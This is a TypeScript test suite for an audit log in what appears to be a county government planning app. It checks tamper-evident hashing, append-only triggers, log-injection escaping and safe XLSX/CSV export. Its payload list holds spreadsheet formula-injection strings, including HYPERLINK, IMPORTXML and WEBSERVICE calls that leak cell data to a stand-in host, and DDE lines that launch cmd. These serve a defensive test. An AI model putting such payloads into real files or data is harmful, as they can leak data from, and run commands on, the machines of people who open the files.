import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { seedAccount, seedPassword } from '../accounts/__tests__/seed-accounts.js';
import { readPlanFile } from '../bootstrap.js';
import { inWriteTransaction } from '../database/transactions.js';
import { isPostgres } from '../database/dialect.js';
import { createTestApp, type TestApp } from '../http/__tests__/test-app.js';
import { TestBrowser } from '../http/__tests__/test-browser.js';
import { importPlan } from '../plan/import-plan.js';
import { planRepository } from '../plan/plan.repository.js';
import { recordAudit } from './record-audit.js';
import { verifyAuditLog } from './verify-audit-log.js';

/** OWASP's CSV-injection list and the variants Chinese input methods and spreadsheet apps add (F-10). */
const formulaPayloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!E2",
  "@cmd|'/c calc'!_xlbgnm.A1",
  '=DDE("cmd";"/C calc";"!A0")',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '=1+1,=2+2',
  '="=1"&"+1"',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=SUM(A1:A9)\n',
];

describe('the audit log', () => {
  let t: TestApp;
  beforeEach(async () => {
    t = await createTestApp({ principal: null });
    await seedAccount(t.ctx, { login: 'auditor', roles: ['audit-admin'] });
    await seedAccount(t.ctx, { login: 'office', roles: ['program-office'] });
  });
  afterEach(async () => t.close());

  const db = () => t.ctx.handle.db;
  const record = (entityId: string, actorName = 'office') =>
    inWriteTransaction(t.ctx.handle, (tx) =>
      recordAudit(tx, t.ctx.audit, { countyId: 'jinhu', actor: { id: null, name: actorName, roles: ['program-office'] }, action: 'exports.downloaded', entity: 'test', entityId }),
    );

  it('DJ-AUD-03 refuses UPDATE and DELETE on audit_log from the application’s own connection', async () => {
    await record('a');
    await expect(sql`update audit_log set actor_name = 'someone else'`.execute(db())).rejects.toThrow(/append-only/);
    await expect(sql`delete from audit_log`.execute(db())).rejects.toThrow(/append-only/);
    if (isPostgres(db())) await expect(sql`truncate audit_log`.execute(db())).rejects.toThrow(/append-only/);
    expect((await verifyAuditLog(db(), t.ctx.audit, 'jinhu')).ok).toBe(true);
  });

  it('DJ-AUD-03 pinpoints an entry edited behind the triggers’ back, through the API and to the audit administrator only', async () => {
    for (const id of ['a', 'b', 'c', 'd']) await record(id);
    const target = await db().selectFrom('audit_log').select('seq').where('object_id', '=', 'c').executeTakeFirstOrThrow();
    if (isPostgres(db())) {
      await sql`alter table audit_log disable trigger audit_log_no_update_or_delete`.execute(db());
      await sql`update audit_log set object_id = 'c-edited' where seq = ${target.seq}`.execute(db());
      await sql`alter table audit_log enable trigger audit_log_no_update_or_delete`.execute(db());
    } else {
      await sql`drop trigger audit_log_no_update`.execute(db());
      await sql`update audit_log set object_id = 'c-edited' where seq = ${target.seq}`.execute(db());
    }
    const result = await verifyAuditLog(db(), t.ctx.audit, 'jinhu');
    expect(result).toMatchObject({ ok: false, broken: { seq: Number(target.seq), reason: 'hash-mismatch' } });

    const auditor = new TestBrowser(t.app);
    await auditor.signIn('auditor', seedPassword);
    const verified = (await auditor.get('/api/audit/verify')).json();
    expect(verified).toMatchObject({ ok: false, verified: Number(target.seq) - 1, broken: { seq: Number(target.seq), reason: 'hash-mismatch' } });
    const office = new TestBrowser(t.app);
    await office.signIn('office', seedPassword);
    expect((await office.get('/api/audit/verify')).statusCode).toBe(403);
  });

  it('DJ-AUD-03 notices an entry deleted from the middle, and entries cut off the end against a head kept elsewhere', async () => {
    for (const id of ['a', 'b', 'c']) await record(id);
    const head = await verifyAuditLog(db(), t.ctx.audit, 'jinhu');
    if (!head.ok || !head.head) throw new Error('the fresh chain should verify');
    if (isPostgres(db())) await sql`alter table audit_log disable trigger audit_log_no_update_or_delete`.execute(db());
    else await sql`drop trigger audit_log_no_delete`.execute(db());
    await sql`delete from audit_log where seq = ${head.head.seq}`.execute(db());
    expect(await verifyAuditLog(db(), t.ctx.audit, 'jinhu')).toMatchObject({ ok: true });
    expect(await verifyAuditLog(db(), t.ctx.audit, 'jinhu', { knownHead: head.head })).toMatchObject({ ok: false, broken: { reason: 'head-mismatch' } });
    await sql`delete from audit_log where seq = 2`.execute(db());
    expect(await verifyAuditLog(db(), t.ctx.audit, 'jinhu')).toMatchObject({ ok: false, broken: { seq: 3, reason: 'sequence-gap' } });
  });

  it('DJ-AUD-03 numbers entries 1, 2, 3… without gaps when many transactions write at once', async () => {
    await Promise.all(Array.from({ length: 30 }, (_, i) => record(`parallel-${i}`)));
    const seqs = (await db().selectFrom('audit_log').select('seq').orderBy('seq').execute()).map((r) => Number(r.seq));
    expect(seqs).toEqual(Array.from({ length: seqs.length }, (_, i) => i + 1));
    expect(await verifyAuditLog(db(), t.ctx.audit, 'jinhu', { pageSize: 7 })).toMatchObject({ ok: true, verified: seqs.length });
  });

  it('DJ-AUD-04 rolls the business change back when its audit record cannot be written (fail closed)', async () => {
    const plan = readPlanFile(t.ctx.config.PLAN_FILE) as { title: string };
    const broken = { ...t.ctx.audit, hash: () => { throw new Error('audit storage unavailable'); } };
    await expect(importPlan({ handle: t.ctx.handle, clock: t.clock, actor: 'office', audit: broken, input: { ...plan, title: `${plan.title}（修订）` } })).rejects.toThrow(/audit storage/);
    expect((await planRepository.current(db(), 'jinhu'))?.revision).toBe(1);
    expect(await planRepository.revisions(db(), 'jinhu')).toHaveLength(1);
  });

  it('DJ-AUD-01 records a plan change through the API with who, role, address, and before → after', async () => {
    const office = new TestBrowser(t.app, { remoteAddress: '10.32.1.9' });
    await office.signIn('office', seedPassword);
    const { plan } = (await office.get('/api/plan')).json();
    plan.targetGroups[0].indicators[0].annualTargets = { '2025': 35 };
    expect((await office.put('/api/plan', plan)).json()).toMatchObject({ changed: true, revision: 2 });
    const entry = await db().selectFrom('audit_log').selectAll().where('event_type', '=', 'plan.changed').orderBy('seq', 'desc').executeTakeFirstOrThrow();
    expect(entry).toMatchObject({ actor_name: 'office', source_ip: '10.32.1.9', object_type: 'plan', object_id: 'jinhu-2024-2026', outcome: 'success' });
    expect(JSON.parse(entry.actor_roles)).toEqual(['program-office']);
    expect(JSON.parse(entry.details!)).toMatchObject({
      before: { revision: 1 },
      after: { revision: 2 },
      changes: [{ path: 'targetGroups[0].indicators[0].annualTargets.2025', before: null, after: 35 }],
    });
    expect((await planRepository.revisions(db(), 'jinhu'))[0]?.by).toBe('office');
  });

  it('DJ-AUD-02 fills every mandatory field and escapes line breaks typed into a login name', async () => {
    await new TestBrowser(t.app).post('/api/session', { login: 'evil\r\n2026-11-28 auth.login success admin', password: 'x' });
    const rows = await db().selectFrom('audit_log').selectAll().execute();
    for (const row of rows) for (const field of ['seq', 'occurred_at', 'actor_name', 'actor_roles', 'event_type', 'outcome', 'prev_hash', 'hash'] as const) expect(row[field]).not.toBeNull();
    const attempt = rows.find((r) => r.event_type === 'auth.login')!;
    expect(attempt.actor_name).toBe('evil\\r\\n2026-11-28 auth.login success admin');
    expect(attempt.request_id).not.toBeNull();
    expect(JSON.stringify(rows)).not.toContain('"x"');
  });

  it('DJ-AUD-01 lets the audit administrator search by actor, event family, object and time, newest first; the search is audited', async () => {
    const office = new TestBrowser(t.app);
    await office.signIn('office', seedPassword);
    t.clock.advance(3600_000);
    await record('later-1');
    const auditor = new TestBrowser(t.app);
    await auditor.signIn('auditor', seedPassword);
    const search = async (query: string) => (await auditor.get(`/api/audit?${query}`)).json();

    const logins = await search('action=auth.&actor=OFF');
    expect(logins.entries.map((e: { eventType: string; actorName: string }) => [e.eventType, e.actorName])).toEqual([['auth.login', 'office']]);
    const exports = await search('entity=test&entityId=later-1');
    expect(exports.total).toBe(1);
    const before = await search(`to=${encodeURIComponent('2026-11-28T10:30:00+08:00')}&action=auth.login`);
    expect(before.entries.map((e: { actorName: string }) => e.actorName)).toEqual(['office']);
    const paged = await search('pageSize=2&page=1');
    expect(paged.entries).toHaveLength(2);
    expect(paged.entries[0].seq).toBeGreaterThan(paged.entries[1].seq);
    expect((await db().selectFrom('audit_log').select('seq').where('event_type', '=', 'audit.searched').execute()).length).toBe(4);
  });

  it('names each object, and exports in the reader’s language with events, roles and kinds in words', async () => {
    const office = new TestBrowser(t.app);
    await office.signIn('office', seedPassword);
    const auditor = new TestBrowser(t.app);
    await auditor.signIn('auditor', seedPassword);
    const logins = (await auditor.get('/api/audit?action=auth.login&actor=office')).json().entries as { objectType: string; objectName: unknown }[];
    // A sign-in's object is the session: a random id that no name can make readable, so it gets none.
    expect(logins[0]).toMatchObject({ objectType: 'session', objectName: null });

    const english = await auditor.get('/api/audit/export?action=auth.login&lang=en');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(english.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Audit log')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 9)).toEqual(['No.', 'Time (China, UTC+8)', 'Actor', 'Roles', 'Address', 'Event', 'Event code', 'Kind of object', 'Object']);
    const row = (sheet.getRow(2).values as unknown[]).slice(1);
    expect(row[5]).toBe('Signed in');
    expect(row[6]).toBe('auth.login');
    expect(row[7]).toBe('Session');
    expect(row[9]).toBe('Success');
    // 2026-11-28 02:00 UTC is 10:00 in China.
    expect(String(row[1])).toMatch(/^2026-11-28 1\d:\d\d/);
    const chinese = await auditor.get('/api/audit/export?action=auth.login');
    const zh = new ExcelJS.Workbook();
    await zh.xlsx.load(chinese.rawPayload as unknown as ArrayBuffer);
    const zhRow = (zh.getWorksheet('审计日志')!.getRow(2).values as unknown[]).slice(1);
    expect([zhRow[5], zhRow[7], zhRow[9]]).toEqual(['登录', '会话', '成功']);
  });

  it('exports each entry’s details field by field in the reader’s language, units and towns by name, the raw record last', async () => {
    await inWriteTransaction(t.ctx.handle, (tx) =>
      recordAudit(tx, t.ctx.audit, {
        countyId: 'jinhu',
        actor: { id: null, name: 'office', roles: ['program-office'] },
        action: 'users.changed',
        entity: 'user',
        entityId: 'u-1',
        details: { before: { status: 'active', unitCode: 'market-supervision', regionCode: 'jinhu' }, after: { status: 'disabled', unitCode: 'market-supervision', regionCode: 'licheng' } },
      }),
    );
    await inWriteTransaction(t.ctx.handle, (tx) =>
      recordAudit(tx, t.ctx.audit, {
        countyId: 'jinhu',
        actor: { id: null, name: 'office', roles: ['program-office'] },
        action: 'reports.returned',
        entity: 'report',
        entityId: '2026-Q3/item-1/market-supervision',
        details: { from: 'submitted', to: 'returned', version: 2 },
      }),
    );
    const auditor = new TestBrowser(t.app);
    await auditor.signIn('auditor', seedPassword);
    const rows = async (lang: string, sheetName: string) => {
      const response = await auditor.get(`/api/audit/export?entity=${lang === 'en' ? 'user' : 'report'}&lang=${lang}`);
      expect(response.statusCode).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      const sheet = workbook.getWorksheet(sheetName)!;
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      return { header, row: (sheet.getRow(2).values as unknown[]).slice(1) };
    };

    // The page shows the same units and towns by name: the search names the codes each entry records.
    const [changed] = (await auditor.get('/api/audit?entity=user&action=users.changed')).json().entries as { valueNames: Record<string, string> }[];
    expect(changed!.valueNames).toEqual({ 'market-supervision': '县市场监管局', jinhu: '金湖县', licheng: '黎城街道' });

    const en = await rows('en', 'Audit log');
    expect(en.header.at(-1)).toBe('Details (as recorded)');
    expect(en.row[en.header.indexOf('Details')]).toBe('Status: Active → Disabled; Town or street: 金湖县 → 黎城街道');
    expect(JSON.parse(String(en.row.at(-1)))).toMatchObject({ before: { status: 'active', regionCode: 'jinhu' } });

    const zh = await rows('zh-CN', '审计日志');
    expect(zh.header.at(-1)).toBe('详情（原始记录）');
    expect(zh.row[zh.header.indexOf('详情')]).toBe('原状态：已报送；新状态：已退回；版本：2');
    expect(JSON.parse(String(zh.row.at(-1)))).toEqual({ from: 'submitted', to: 'returned', version: 2 });
  });

  it('AS-IN-10 exports formula-injection payloads as literal text in XLSX and CSV, numbers staying numbers', async () => {
    for (const payload of formulaPayloads) await record(payload, payload);
    const auditor = new TestBrowser(t.app);
    await auditor.signIn('auditor', seedPassword);

    const xlsx = await auditor.get('/api/audit/export?entity=test');
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.headers['content-type']).toContain('spreadsheetml');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('审计日志')!;
    expect(sheet.rowCount).toBe(formulaPayloads.length + 1);
    let formulas = 0;
    sheet.eachRow((row) => row.eachCell((cell) => (formulas += cell.type === ExcelJS.ValueType.Formula ? 1 : 0)));
    expect(formulas).toBe(0);
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const actorColumn = header.indexOf('操作人') + 1;
    const objectColumn = header.indexOf('对象') + 1;
    for (let r = 2; r <= sheet.rowCount; r += 1) {
      const row = sheet.getRow(r);
      expect(typeof row.getCell(1).value, 'seq stays a number').toBe('number');
      for (const column of [actorColumn, objectColumn]) {
        const value = row.getCell(column).value;
        expect(typeof value).toBe('string');
        expect(value as string).toMatch(/^['\\]/);
      }
    }

    const csv = await auditor.get('/api/audit/export?entity=test&format=csv');
    expect(csv.headers['content-type']).toContain('text/csv');
    const lines = csv.body.replace(/^\uFEFF/, '').split('\r\n').slice(1).filter((l) => l !== '');
    expect(lines).toHaveLength(formulaPayloads.length);
    for (const line of lines) {
      const [seq, , actor] = line.split(',');
      expect(seq).toMatch(/^\d+$/);
      expect(actor).toMatch(/^"?['\\]/);
    }
    expect((await db().selectFrom('audit_log').select('seq').where('event_type', '=', 'audit.exported').execute()).length).toBe(2);
  });
});
